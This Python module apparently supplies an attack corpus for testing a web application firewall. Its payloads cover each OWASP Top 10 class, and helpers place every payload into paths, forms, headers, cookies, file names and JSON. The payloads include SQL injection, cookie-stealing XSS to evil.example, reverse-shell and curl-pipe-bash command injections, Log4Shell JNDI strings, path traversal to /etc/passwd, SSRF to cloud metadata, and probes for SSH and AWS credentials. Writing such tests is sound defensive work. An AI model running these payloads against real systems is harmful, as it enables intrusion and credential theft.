"""Attacks of the classes of the OWASP Top 10 (2021).

The texts are our own or generic; none works against TheSeller. Each is sent in the path, the query,
a form field, a header, a cookie, the name of an uploaded file and a JSON value. The tests of the
firewall send all of them, a prober sends some.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import dataclass, field
from urllib.parse import quote, quote_plus

#: Kind of attack: texts. The classes of the OWASP Top 10 are in the comments.
ATTACKS: dict[str, tuple[str, ...]] = {
    # A03 injection
    "sql": (
        "1' OR '1'='1' -- -",
        "1 UNION SELECT email, password FROM accounts_user--",
        "x'; DROP TABLE ingest_order;--",
        "1; SELECT pg_sleep(10)--",
        "' AND 1=CAST((SELECT version()) AS int)--",
        "1) OR EXISTS(SELECT 1 FROM information_schema.tables)--",
        "-1' UNION/**/SELECT/**/null,null,current_user--",
        "'||(SELECT usename FROM pg_user LIMIT 1)||'",
        "1' AND SLEEP(5)#",
        "'; COPY (SELECT '') TO PROGRAM 'id';--",
        "1' WAITFOR DELAY '0:0:5'--",
        "admin'/*",
    ),
    "markup": (
        "<script>alert(1)</script>",
        '"><img src=x onerror=alert(document.cookie)>',
        "<svg/onload=fetch('//evil.example/'+document.cookie)>",
        "javascript:alert(document.domain)//",
        "<iframe src=javascript:alert(1)></iframe>",
        "' onmouseover='alert(1)' x='",
        "<body onpageshow=alert(1)>",
        "<a href=\"javascript:document.location='//evil.example'\">x</a>",
        '<object data="data:text/html;base64,PHNjcmlwdD4="></object>',
        "<style>@import'//evil.example/x.css';</style>",
    ),
    "command": (
        "; cat /etc/passwd",
        "| nc -e /bin/sh 203.0.113.7 4444",
        "$(curl http://evil.example/x.sh | bash)",
        "`wget http://evil.example/m -O /tmp/m`",
        "&& ping -c 10 127.0.0.1 && id",
        "; python3 -c 'import os; os.system(\"id\")'",
        "|| powershell -enc SQBFAFgA",
        "() { :;}; /bin/bash -c 'id'",
    ),
    "template": (
        "{{7*7}}",
        "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
        "${7*7}",
        "#{7*7}",
        "<%= system('id') %>",
        "{% import os %}{{ os.popen('id').read() }}",
        "${{<%[%'\"}}%\\.",
    ),
    "query language": (
        "*)(uid=*))(|(uid=*",
        "*)(&(objectClass=*)(userPassword=*))",
        "' or '1'='1' or count(//user)>0 or 'a'='a",
        "'] | //user/*[contains(.,'",
        '{"$gt": ""}',
        '{"$where": "sleep(1000)"}',
        "'; return this.password.match(/.*/); var x='",
    ),
    "header": (
        "x\r\nSet-Cookie: session=stolen",
        "x\r\n\r\n<html><script>alert(1)</script>",
        "x\nLocation: http://evil.example/",
        "x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK",
    ),
    # A01 broken access control, A05 misconfiguration
    "file": (
        "../../../../etc/passwd",
        "..%2f..%2f..%2fetc%2fshadow",
        "....//....//....//etc/passwd",
        "..\\..\\..\\windows\\win.ini",
        "/proc/self/environ",
        "php://filter/convert.base64-encode/resource=index",
        "file:///etc/passwd",
        "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
        "../.git/config",
        "../../.env",
        "../../state/secrets/root-key/../../../etc/hosts",
    ),
    # A06 outdated components, A08 integrity of data: languages and frameworks that TheSeller does
    # not use
    "component": (
        "${jndi:ldap://evil.example/a}",
        "${${lower:j}ndi:${lower:l}dap://evil.example/a}",
        "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
        "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZA",
        'O:8:"stdClass":1:{s:4:"exec";s:2:"id";}',
        "<?php system($_GET['c']); ?>",
        "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
        "cos\nsystem\n(S'id'\ntR.",
    ),
    # A10 requests that the server is made to send
    "server request": (
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://[::ffff:169.254.169.254]/",
        "http://127.0.0.1:5432/",
        "gopher://127.0.0.1:6379/_INFO",
        "dict://127.0.0.1:11211/stats",
        "http://metadata.google.internal/computeMetadata/v1/",
        "http://2130706433/",
    ),
}  # fmt: skip

#: A02, A05, A07 and A09: requests that are attacks as a whole: probes, scanners and broken
#: protocol.
PROBES: tuple[tuple[str, str, dict[str, str]], ...] = (
    ("GET", "/.env", {}),
    ("GET", "/.git/HEAD", {}),
    ("GET", "/.aws/credentials", {}),
    ("GET", "/.ssh/id_rsa", {}),
    ("GET", "/backup.sql", {}),
    ("GET", "/state/secrets/db.key", {}),
    ("GET", "/wp-config.php.bak", {}),
    ("GET", "/config/database.ini", {}),
    ("GET", "/", {"User-Agent": "sqlmap/1.7 (https://sqlmap.org)"}),
    ("GET", "/", {"User-Agent": "Nikto/2.5.0"}),
    ("GET", "/", {"User-Agent": "Mozilla/5.0 Nessus"}),
    ("GET", "/", {"X-Api-Version": "${jndi:ldap://evil.example/a}"}),
    ("TRACE", "/", {}),
    ("PUT", "/uploaded.html", {}),
    ("DELETE", "/imports/", {}),
    ("PROPFIND", "/", {}),
    ("GET", "/?sessionid=0&PHPSESSID=fixed", {"Referer": "https://evil.example/"}),
    ("GET", "/sign-in/", {"Proxy": "http://evil.example:8080/"}),
    ("GET", "/sign-in/", {"Content-Encoding": "gzip"}),
    ("POST", "/sign-in/", {"Content-Type": "text/xml"}),
    ("GET", "/static/../../../etc/passwd", {}),
    ("GET", "/static/%2e%2e/%2e%2e/etc/passwd", {}),
    ("GET", "/%00", {}),
    ("GET", "/sign-in/?next=%0d%0aSet-Cookie:%20a=b", {}),
)

#: An address there makes no server request it: browsers send addresses as `Referer`.
_HARMLESS = {("server request", "a header"), ("server request", "a cookie")}

_BOUNDARY = "----corpus4fd1"
_FORM = {"Content-Type": "application/x-www-form-urlencoded"}


@dataclass(frozen=True, slots=True)
class Request:
    """One request of a corpus: what it is called, and what is sent."""

    name: str
    method: str
    path: str
    headers: dict[str, str] = field(default_factory=dict)
    body: bytes = b""


def attacks() -> Iterator[Request]:
    """Give every attack: each text in each place, then the probes."""
    for kind, texts in ATTACKS.items():
        for number, text in enumerate(texts):
            for place, build in _PLACES.items():
                if (kind, place) in _HARMLESS:
                    continue
                yield build(f"{kind} {number} in {place}: {text!r}", text)
    for method, path, headers in PROBES:
        yield Request(
            f"{method} {path} {headers}", method, path, headers, b"x" * (method == "POST")
        )


def reliable_attacks() -> Iterator[Request]:
    """Give the attacks that the shipped edge refuses without exception.

    Fields for prose are left out of the rules that match SQL in product titles.
    """
    return (
        one for one in attacks() if not (one.name.startswith("sql ") and " in prose:" in one.name)
    )


def multipart(name: str, content: bytes, **fields: str) -> tuple[dict[str, str], bytes]:
    """Return headers and body of a form with one file, as browsers write it."""
    # Browsers write quotes and line ends of names in percent-encoding.
    quoted = name.replace('"', "%22").replace("\r", "%0D").replace("\n", "%0A")
    parts = [
        f'--{_BOUNDARY}\r\nContent-Disposition: form-data; name="{key}"\r\n\r\n{value}\r\n'.encode()
        for key, value in fields.items()
    ]
    parts.append(
        f'--{_BOUNDARY}\r\nContent-Disposition: form-data; name="files"; filename="{quoted}"\r\n'
        "Content-Type: application/octet-stream\r\n\r\n".encode()
    )
    body = b"".join(parts) + content + f"\r\n--{_BOUNDARY}--\r\n".encode()
    return {"Content-Type": f"multipart/form-data; boundary={_BOUNDARY}"}, body


def _in_path(name: str, text: str) -> Request:
    # What is encoded already stays as it is.
    return Request(name, "GET", f"/days/{quote(text, safe='%/' if '%' in text else '/')}/")


def _in_query(name: str, text: str) -> Request:
    return Request(name, "GET", f"/products/?store={quote_plus(text)}")


def _in_search(name: str, text: str) -> Request:
    # Fields for names and prose are left out of some rules (deploy/edge/waf/fields.conf).
    return Request(name, "GET", f"/products/?q={quote_plus(text)}")


def _in_prose(name: str, text: str) -> Request:
    body = f"reason={quote_plus(text)}".encode()
    return Request(name, "POST", "/operate/access/open/", _FORM, body)


def _in_form(name: str, text: str) -> Request:
    body = f"email=a%40example.com&next={quote_plus(text)}".encode()
    return Request(name, "POST", "/sign-in/", _FORM, body)


def _in_header(name: str, text: str) -> Request:
    header = ("User-Agent", "Referer", "X-Requested-With")[len(text) % 3]
    # A line end can't be in a header: clients and servers take it as the next one.
    return Request(name, "GET", "/", {header: text.replace("\r", "%0d").replace("\n", "%0a")})


def _in_cookie(name: str, text: str) -> Request:
    return Request(name, "GET", "/", {"Cookie": f"view={quote(text, safe='')}"})


def _in_file_name(name: str, text: str) -> Request:
    headers, body = multipart(text, b"order-id\tsku\n1\t2\n")
    return Request(name, "POST", "/imports/", headers, body)


def _in_json(name: str, text: str) -> Request:
    body = json.dumps({"query": {"store": text}}).encode()
    return Request(name, "POST", "/sign-in/", {"Content-Type": "application/json"}, body)


_PLACES = {
    "the path": _in_path,
    "the query": _in_query,
    "a search": _in_search,
    "a form": _in_form,
    "prose": _in_prose,
    "a header": _in_header,
    "a cookie": _in_cookie,
    "a file name": _in_file_name,
    "JSON": _in_json,
}
